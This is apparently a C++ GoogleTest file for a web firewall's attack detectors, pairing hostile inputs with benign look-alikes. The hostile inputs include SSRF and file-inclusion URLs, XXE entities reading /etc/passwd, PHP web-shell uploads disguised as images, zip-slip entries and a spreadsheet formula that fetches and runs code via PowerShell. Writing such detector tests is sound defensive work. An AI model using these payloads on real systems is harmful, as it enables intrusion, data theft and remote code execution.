// The analysers of addresses, files, XML, line ends and request paths: attacks and what only looks like them.
#include <gtest/gtest.h>

#include "detect/analyze/http/header_injection.h"
#include "detect/analyze/path/hidden_path.h"
#include "detect/analyze/upload/file_upload.h"
#include "detect/analyze/upload/formula.h"
#include "detect/analyze/url/file_inclusion.h"
#include "detect/analyze/url/ssrf.h"
#include "detect/analyze/url/url_reader.h"
#include "detect/analyze/xml/xxe.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

using namespace std::string_view_literals;

struct Row {
  std::string_view text;
  const char* verdict;
};

constexpr Row kInclusion[] = {
    {"php://filter/convert.base64-encode/resource=index.php", "low"},
    {"PHP://input", "low"},
    {"expect://id", "low"},
    {"phar://a.jpg/x", "low"},
    {"zip://a.jpg#x", "low"},
    {"netdoc:///etc/passwd", "low"},
    {"data://text/plain;base64,PD9waHA=", "balanced"},
    {"data:text/plain,<?php", "balanced"},
    {"file:///etc/passwd", "balanced"},
    {"jar:http://evil.example/a.zip!/b", "balanced"},
    {"ftp://evil.example/a.txt", "balanced"},
    {"ftp://203.0.113.9/a.zip", "balanced"},
    {"ftp://evil.example/pub/a", "balanced"},
    {"ftp://ftp.shop.example/pub/a-1.2.tar.gz", "-"},
    {"http://203.0.113.9/c.php", "balanced"},
    {"http://evil.example/c.php?", "balanced"},
    {"http://evil.example/shell.txt?", "balanced"},
    {"http://shop.example/readme.txt", "-"},
    {"http://shop.example/readme.txt?v=2", "-"},
    {"https://2001:db8::29c8/c.php", "balanced"},
    {std::string_view("http://evil.example/a.txt\0", 26), "balanced"},
    {"local_file:///etc/passwd", "low"},
    {"smb://203.0.113.7/s", "balanced"},
    {"smb://files.evil.example/s", "balanced"},
    {"smb://nas/s/x.php", "balanced"},
    {"smb://nas/photos", "-"},
    {"file:///C:/Users/me/page.html", "strict"},
    {"http://evil.example/c?", "strict"},
    {"https://shop.example/return?a=b", "-"},
    {"https://shop.example/index.php?id=3", "-"},
    {"mailto:a@shop.example", "-"},
    {"data:image/png;base64,iVBORw0KGgo=", "-"},
    {"the file: a list", "-"},
    {"note: see //cdn.example/x.js", "-"},
};

constexpr Row kSsrf[] = {
    // Services inside a network, by the paths and ports that only they have.
    {"http://10.0.0.1/latest/user-data", "balanced"},
    {"http://192.168.0.1:8080/manager/html", "balanced"},
    {"//localhost/actuator/env", "balanced"},
    {"https://10.10.10.10:9200/", "balanced"},
    {"http://redis:6379/", "balanced"},
    {"http://unix:/var/run/docker.sock:/containers/json", "balanced"},
    {"//0x7f000001/latest/user-data", "balanced"},
    {"//127-0-0-1.sslip.io/a", "balanced"},
    {"http://foo@[::1]:80@shop.example/admin", "balanced"},
    {"git://127.0.0.1:9418/", "balanced"},
    {"gopher://10.0.0.3:25/_MAIL FROM:x", "balanced"},
    {"https://vault.service.consul:8080/manager/html", "balanced"},
    {"http://shop.example/actuator/env", "-"},
    {"http://10.0.0.1/shop", "strict"},
    {"http://api:8080/", "-"},
    {"jdbc:mysql://db:3306/app", "strict"},
    {"redis://localhost:6379/0", "strict"},
    {"redis://localhost:6379/", "balanced"},
    {"ws://localhost:9000/", "strict"},
    {"local_file://2852039166/", "low"},
    {"app://2852039167/", "-"},
    {"git://git.shop.example/a.git", "-"},
    {"http://169.254.169.254/latest/meta-data/", "low"},
    {"http://metadata.google.internal/computeMetadata/v1/", "low"},
    {"http://2852039166/", "low"},
    {"http://0xA9.0xFE.0xA9.0xFE/", "low"},
    {"http://2130706433/", "balanced"},
    {"http://0x7f.1/", "balanced"},
    {"http://0177.0.0.1/", "balanced"},
    {"http:0x7f000001", "balanced"},
    {"gopher://127.0.0.1:6379/_INFO", "balanced"},
    {"dict://shop.example:11211/stat", "balanced"},
    {"http://good.example@evil.example/", "balanced"},
    {"http://good.example%2f@evil.example/", "balanced"},
    {"http://localhost/admin", "strict"},
    {"http://10.0.0.1/", "strict"},
    {"http://[::1]/", "balanced"},
    {"http://[::ffff:169.254.169.254]/", "low"},
    {"http://[::ffff:127.0.0.1]/", "balanced"},
    {"http://100.100.100.200/latest/meta-data/", "low"},
    {"http://0251.254.0xa9.254/", "low"},
    {"http://127.1/", "balanced"},
    {"http://10.0.0.1.nip.io/", "balanced"},
    {"http://app-127-0-0-1.sslip.io/", "balanced"},
    {"http://169.254.169.254.nip.io/", "low"},
    {"http://v2.app.34.1.2.3.nip.io/", "strict"},
    {"http://7f000001.c0a80001.rbndr.us/", "balanced"},
    {"http://a.localtest.me/", "balanced"},
    {"http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "low"},
    {"http://[0:0:0:0:0:FFFF:7f00:1]/", "balanced"},
    {"http://[::a9fe:a9fe]/", "low"},
    {"http://[64:ff9b::a9fe:a9fe]/", "low"},
    {"http://[2002:a9fe:a9fe::1]/", "low"},
    {"http://[fd00:0ec2:0:0:0:0:0:254]/", "low"},
    {"http://[fe80::1%25eth0]/", "low"},
    {"http://[0000:0000:0000:0000:0000:0000:0000:0001]/", "balanced"},
    {"http://[2001:db8::29c8]/", "strict"},
    {"http://[1:2:3]/", "-"},
    {"http://good.example#@169.254.169.254/", "low"},
    {"http://good.example#@127.0.0.1/", "balanced"},
    {"http://good.example?@evil.example/", "balanced"},
    {"http://good.example\\@evil.example/", "balanced"},
    {"https://good.example/#@evil", "-"},
    {"https://good.example?mail=a@evil.example", "-"},
    {"//169.254.169.254/latest/user-data", "low"},
    {"\\/metadata.google.internal/x", "low"},
    {"//[::ffff:7f00:1]/", "balanced"},
    {"//127.0.0.1/x", "strict"},
    {"//cdn.example/x.js", "-"},
    {"//10", "-"},
    {"//10.5", "-"},
    {"//127.0.0.1 is the machine itself", "-"},
    {"unix:/var/run/docker.sock", "balanced"},
    {"http+unix://%2Fvar%2Frun%2Fdocker.sock/info", "balanced"},
    {"npipe:////./pipe/docker_engine", "balanced"},
    {"unix: a and/or b", "-"},
    {"http://localhost:22/", "balanced"},
    {"http://a@127.0.0.1:6379/", "balanced"},
    {"http://[::1]:11211/", "balanced"},
    {"http://kubernetes.default.svc/", "balanced"},
    {"http://localhost:8080/", "strict"},
    {"ssh://git@shop.example:22/a/b.git", "strict"},
    {"ssh://git@10.0.0.1/a.git", "balanced"},
    {"postgres://app@db.example:5432/shop", "strict"},
    {"jdbc:mysql://db.example:3306/shop", "strict"},
    {"jdbc:mysql://db.example:3306/shop?autoDeserialize=true", "balanced"},
    {"mysql://db.example/shop", "balanced"},
    {"redis://a@db.example/", "balanced"},
    {"http://127.0.0.1/admin", "balanced"},
    {"http://127.0.0.1:5500/index.html", "strict"},
    {"https://localhost/index.html", "strict"},
    {"http://host.docker.internal:8080/", "strict"},
    {"http://host.docker.internal:2375/", "balanced"},
    {"http://host.docker.internal:6443/", "balanced"},
    {"http://kubernetes.docker.internal/", "balanced"},
    {"http://localhost.localdomain/", "balanced"},
    {"http:127.0.0.1/", "balanced"},
    {"http:///127.0.0.1:8080/", "balanced"},
    {"http:\\\\10.0.0.1\\", "balanced"},
    {"http://shop.example@127.0.0.1:8080/", "balanced"},
    {"http://127.0.0.1\0.shop.example/"sv, "balanced"},
    {"localhost/", "balanced"},
    {"lvh.me/admin", "balanced"},
    {"localhost:8080", "strict"},
    {"127.0.0.1/8", "-"},
    {"localhost", "-"},
    {"http://169\u3002254\u3002169\u3002254/", "balanced"},
    {"\\\\evil.example\\c$\\x", "balanced"},
    {"\\\\203.0.113.9\\share", "balanced"},
    {"\\\\evil.example@SSL\\x\\y", "balanced"},
    {"\\\\?\\UNC\\evil\\x", "balanced"},
    {"\\\\.\\pipe\\x", "balanced"},
    {"\\\\fileserver\\docs\\a.docx", "strict"},
    {"\\\\d+\\.\\d+", "-"},
    {"\\\\.\\d+", "-"},
    {"\\\\n", "-"},
    {"tftp://shop.example/x", "balanced"},
    {"ldap://shop.example/o=x", "balanced"},
    {"http://shop.example/@evil.example/", "strict"},
    {"https://blog.example/@someone", "-"},
    {"https://shop.example/10.0.0.1/localhost", "-"},
    {"see http://localhost:8080 for the page", "-"},
    {"https://shop.example/a", "-"},
    {"https://user@shop.example/a", "-"},
    {"https://1.2.3.4/a", "-"},
    {"https://shop.example:8443/a?b=http://c.example", "-"},
};

constexpr Row kXxe[] = {
    {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "low"},
    {"<!ENTITY % b SYSTEM 'http://evil.example/x.dtd'>", "low"},
    {"<!ENTITY % b \"x\">", "low"},
    {"<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\">", "balanced"},
    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></a>", "balanced"},
    {"<!ENTITY a 'x'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'><!ENTITY d '&c;&c;'>", "low"},
    {"<!ENTITY copy '&#169;'>", "strict"},
    {"<!DOCTYPE html>", "-"},
    {"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
     "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
     "-"},
    {"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
     "-"},
    {"<?xml version=\"1.0\"?><a><b>c</b></a>", "-"},
};

constexpr Row kHeaders[] = {
    {"x\r\nSet-Cookie: a=b", "balanced"},     {"x\nLocation: //evil.example", "balanced"},
    {"x\r\n\r\nHTTP/1.1 200 OK", "low"},      {"a@b.example\r\nBcc: c@d.example", "balanced"},
    {"x\r\nGET /admin HTTP/1.1", "balanced"}, {"line one\nline two: yes", "-"},
    {"Dear all\r\nto: be or not", "-"},       {"one\r\n\r\ntwo", "-"},
};

constexpr Row kFileNames[] = {
    {"shell.php", "balanced"}, {"shell.pHtml", "balanced"}, {"a.jsp", "balanced"},
    {"a.php.jpg", "low"},      {"a.php;.jpg", "low"},       {"a.php .jpg", "low"},
    {"a.php...", "low"},       {"a.asp::$DATA", "low"},     {"a.php\0.png"sv, "low"},
    {".htaccess", "low"},      {"web.config", "low"},       {"sess_abcdefghijklmnopqrst0123", "balanced"},
    {"a.html", "strict"},      {"photo.jpg", "-"},          {"report.final.v2.pdf", "-"},
    {"my.php notes", "-"},     {"archive.tar.gz", "-"},     {"Änderung.docx", "-"},
};

constexpr Row kPaths[] = {
    {"/.git/config", "balanced"},
    {"/.env", "balanced"},
    {"/app/.env", "balanced"},
    {"/.secret/config.json", "balanced"},
    {"/index.php~", "balanced"},
    {"/config.php.bak", "balanced"},
    {"/backup.sql", "strict"},
    {"/user/project/tree/main/.github/workflows", "strict"},
    {"/.well-known/acme-challenge/x", "-"},
    {"/a/b.min.js", "-"},
    {"/releases/v1.0", "-"},
    {"/", "-"},
};

template <std::size_t N>
void expect_rows(const Analyzer& analyzer, const Row (&rows)[N], Location location = Location::kQuery,
                 bool in_name = false) {
  for (const Row& row : rows)
    EXPECT_EQ(verdict_of(analyzer, row.text, location, in_name), row.verdict) << row.text;
}

TEST(AddressAndFile, Inclusion) { expect_rows(*make_file_inclusion_analyzer(), kInclusion); }
TEST(AddressAndFile, FilesFromElsewhere) {
  const auto analyzer = make_file_inclusion_analyzer();
  FieldContext context;
  // Parameters that name code, and those that may name a page.
  for (const std::string_view name : {"lang", "options.template", "inc"}) {
    context.name = name;
    EXPECT_EQ(verdict_in(*analyzer, "http://evil.example/shell.txt", context), "balanced") << name;
    EXPECT_EQ(verdict_in(*analyzer, "https://evil.example/c.php", context), "balanced") << name;
    EXPECT_EQ(verdict_in(*analyzer, "https://shop.example/a.css", context), "-") << name;
  }
  for (const std::string_view name : {"file", "page", "body"}) {
    context.name = name;
    EXPECT_EQ(verdict_in(*analyzer, "http://evil.example/shell.txt", context), "strict") << name;
    EXPECT_EQ(verdict_in(*analyzer, "https://evil.example/c.php", context), "strict") << name;
    EXPECT_EQ(verdict_in(*analyzer, "https://shop.example/a.pdf", context), "-") << name;
    EXPECT_EQ(verdict_in(*analyzer, "about.php", context), "-") << name;
  }
  context.name = "url";
  EXPECT_EQ(verdict_in(*analyzer, "http://shop.example/robots.txt", context), "-");
}
TEST(AddressAndFile, Ssrf) { expect_rows(*make_ssrf_analyzer(), kSsrf); }
TEST(AddressAndFile, SsrfWhereTheBrowserGoes) {
  const auto analyzer = make_ssrf_analyzer();
  FieldContext context;
  for (const std::string_view name : {"redirect_uri", "returnUrl", "callback", "referrer", "page"}) {
    context.name = name;
    EXPECT_EQ(verdict_in(*analyzer, "http://127.0.0.1/callback", context), "strict") << name;
  }
  context.name = "image";
  EXPECT_EQ(verdict_in(*analyzer, "http://127.0.0.1/callback", context), "balanced");
  // What only services have is fetched also from there, and from headers.
  context.name = "callback";
  EXPECT_EQ(verdict_in(*analyzer, "http://127.0.0.1/containers/json", context), "balanced");
  context.location = Location::kHeader;
  context.name = "X-Image";
  EXPECT_EQ(verdict_in(*analyzer, "http://127.0.0.1/", context), "balanced");
}
TEST(AddressAndFile, Xxe) {
  // In a document that was read, attributes stand alone.
  const auto analyzer = make_xxe_analyzer();
  FieldContext context;
  context.location = Location::kBody;
  context.name = "xmlns:xi";
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XInclude", context), "balanced");
  context.name = "xmlns:php";
  EXPECT_EQ(verdict_in(*analyzer, "http://php.net/xsl", context), "balanced");
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XMLSchema", context), "-");
  context.name = "href";
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XInclude", context), "-");
  expect_rows(*make_xxe_analyzer(), kXxe);
}
TEST(AddressAndFile, Headers) { expect_rows(*make_header_injection_analyzer(), kHeaders); }
TEST(AddressAndFile, FileNames) {
  expect_rows(*make_file_upload_analyzer(), kFileNames, Location::kFile, true);
}
TEST(AddressAndFile, HiddenPaths) { expect_rows(*make_hidden_path_analyzer(), kPaths, Location::kUrlPath); }

TEST(AddressAndFile, PageCodeInFiles) {
  const auto analyzer = make_file_upload_analyzer();
  EXPECT_EQ(verdict_of(*analyzer, "<%@ page import=\"java.io.*\" %>", Location::kFile), "low");
  EXPECT_EQ(verdict_of(*analyzer, "<% Runtime.getRuntime().exec(\"id\"); %>", Location::kFile), "low");
  EXPECT_EQ(verdict_of(*analyzer, "50<%60 and %>", Location::kFile), "-");
}

// Of an archive: the header of an entry with such a name.
std::string zip_entry(std::string_view name) {
  std::string out = "PK\3\4";
  out.append(22, '\0');
  out += {static_cast<char>(name.size()), '\0', '\0', '\0'};
  return out + std::string(name);
}
std::string tar_entry(std::string_view name) {
  std::string out(name);
  out.resize(257, '\0');
  return out + "ustar\00000";
}
std::string windows_program() {
  std::string out = "MZ";
  out.resize(0x80, '\0');
  out[0x3c] = static_cast<char>(0x80);
  return out + "PE" + std::string(20, '\0');
}

struct ContentRow {
  std::string text;
  bool media;
  const char* verdict;
};

TEST(AddressAndFile, ContentOfUploads) {
  const auto analyzer = make_file_upload_analyzer();
  const ContentRow rows[] = {
      {"GIF89a;<?=`$_GET[0]`?>", true, "balanced"},
      {"\xff\xd8\xff\xe0<?=$_REQUEST['a']($_POST['b'])?>", true, "balanced"},
      {"<? @system ($_GET[0]) ?>", false, "balanced"},
      {"<?= $title ?> <?= htmlspecialchars($name) ?>", false, "-"},
      {"<?xml version='1.0'?><?xpacket begin=''?>", true, "-"},
      {"<? if a ?>", true, "-"},
      {windows_program(), true, "balanced"},
      {windows_program(), false, "-"},
      {"MZ\x90 This program cannot be run in DOS mode.", true, "balanced"},
      {"MZ is a label", true, "-"},
      {std::string("\x7f"
                   "ELF\2\1\1\0",
                   8),
       true, "balanced"},
      {std::string("\xca\xfe\xba\xbe\0\0\0\x34", 8), true, "balanced"},
      {std::string("\xcf\xfa\xed\xfe\7\0\0\1", 8), true, "balanced"},
      {"#!/usr/bin/env python\nimport os\n", true, "balanced"},
      {"#! /bin/sh\nid\n", true, "balanced"},
      {"#!/bin/sh\nid\n", false, "-"},
      {"#!AMR\n\x3c\x91", true, "-"},
      {"%!PS\nuserdict /setpagedevice undef\n", true, "balanced"},
      {"%!PS-Adobe-3.0\n(%pipe%id) (w) file", false, "balanced"},
      {"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n", true, "-"},
      {"%!PS-Adobe-3.0 PDF-1.4\n", true, "-"},
      {"push graphic-context\nviewbox 0 0 1 1\npop graphic-context", true, "balanced"},
      {"a.mvg: push graphic-context\nfill 'url(https://e.example/|id\")'", false, "balanced"},
      {"<image><read filename=\"caption:x\"/><write filename=\"/var/a.php\"/></image>", false, "balanced"},
      {"<svg><image xlink:href=\"msl:/tmp/x\"/></svg>", true, "balanced"},
      {"<svg><text>label: @me</text><a href=\"https://e.example/\"/></svg>", true, "-"},
      {zip_entry("../../etc/x"), false, "balanced"},
      {zip_entry("a/..\\..\\x"), false, "balanced"},
      {zip_entry("a/b..c/x") + zip_entry("word/document.xml"), true, "-"},
      {tar_entry("../x"), false, "balanced"},
      {tar_entry("dir/x"), false, "-"},
  };
  for (const ContentRow& row : rows) {
    FieldContext context;
    context.location = Location::kFile;
    context.media = row.media;
    EXPECT_EQ(verdict_in(*analyzer, row.text, context), row.verdict) << row.text;
  }
}

constexpr Row kFormulas[] = {
    {"=cmd|'/c calc'!A1", "balanced"},
    {"=cmd|' /C powershell IEX(wget 203.0.113.9/x)'!A0", "balanced"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "balanced"},
    {"-2+3+cmd|' /C notepad'!A0", "balanced"},
    {"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "balanced"},
    {"id,name\n1,=rundll32|'URL.dll,OpenURL calc.exe'!A\n", "balanced"},
    {"\"=10+20+cmd|'/C calc'!A0\"", "balanced"},
    {"=WEBSERVICE(\"http://e.example/?\"&A1)", "balanced"},
    {"=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")", "balanced"},
    {"=DDE(\"cmd\";\"/C calc\";\"x\")", "balanced"},
    {"=HYPERLINK(\"http://e.example/\"&A1,\"x\")", "strict"},
    {"=SUM(A1:A5)", "-"},
    {"id,formula\n1,=SUM(A1:A5)\n2,=A1&\"x\"\n3,-5+3\n", "-"},
    {"a|'b'!c", "-"},
    {"| cmd|'x'! |", "-"},
    {"the webservice(s) of cmd|'x'!A1", "-"},
    {"x = call('a')", "-"},
    {"+1 (555) 123|4567", "-"},
    {"@name said: call(\"me\")", "-"},
};
TEST(AddressAndFile, Formulas) {
  const auto analyzer = make_formula_analyzer();
  expect_rows(*analyzer, kFormulas);
  expect_rows(*analyzer, kFormulas, Location::kFile);
}

TEST(UrlReader, Hosts) {
  struct HostRow {
    const char* host;
    bool bracketed;
    HostKind kind;
  };
  constexpr HostRow kRows[] = {
      {"shop.example", false, HostKind::kName},
      {"8.8.8.8", false, HostKind::kPublic},
      {"127.0.0.1", false, HostKind::kLoopback},
      {"127.1", false, HostKind::kOdd},
      {"10.1.2.3", false, HostKind::kPrivate},
      {"172.20.0.1", false, HostKind::kPrivate},
      {"169.254.1.1", false, HostKind::kLinkLocal},
      {"169.254.169.254", false, HostKind::kMetadata},
      {"0251.0376.0251.0376", false, HostKind::kMetadata},
      {"2130706433", false, HostKind::kOdd},
      {"::1", true, HostKind::kLoopback},
      {"::ffff:127.0.0.1", true, HostKind::kOdd},
      {"::ffff:a9fe:a9fe", true, HostKind::kMetadata},
      {"::ffff:7f00:1", true, HostKind::kOdd},
      {"fd00:ec2::254", true, HostKind::kMetadata},
      {"100.100.100.200", false, HostKind::kMetadata},
      {"169.254.170.2", false, HostKind::kMetadata},
      {"168.63.129.16", false, HostKind::kMetadata},
      {"fe80::1", true, HostKind::kLinkLocal},
      {"127.0.0.1.nip.io", false, HostKind::kOdd},
      {"1::2::3", true, HostKind::kName},
      {"1:2:3:4:5:6:7:8:9", true, HostKind::kName},
      {"1:2:3:4:5:6:7:8", true, HostKind::kPublic},
      {"1::", true, HostKind::kPublic},
      {"fec0::1", true, HostKind::kPrivate},
      {"1:", true, HostKind::kName},
      {"::1.2.3", true, HostKind::kOdd},
      {"1.2.3.4.5", false, HostKind::kName},
      {"", false, HostKind::kName},
  };
  for (const HostRow& row : kRows) EXPECT_EQ(host_kind(row.host, row.bracketed), row.kind) << row.host;
}

TEST(UrlReader, Parts) {
  const auto url = read_url("jar:HTTP://u:p@h.example:81/a/b?c#d");
  ASSERT_TRUE(url);
  EXPECT_EQ(url->scheme, "jar:http");
  EXPECT_EQ(url->user, "u:p");
  EXPECT_EQ(url->host, "h.example");
  EXPECT_EQ(url->path, "/a/b");
  EXPECT_TRUE(url->has_query);
  EXPECT_FALSE(read_url("no url"));
  EXPECT_FALSE(read_url("//host/path"));
  EXPECT_FALSE(read_url("12:30"));
}

}  // namespace
}  // namespace wafd::detect
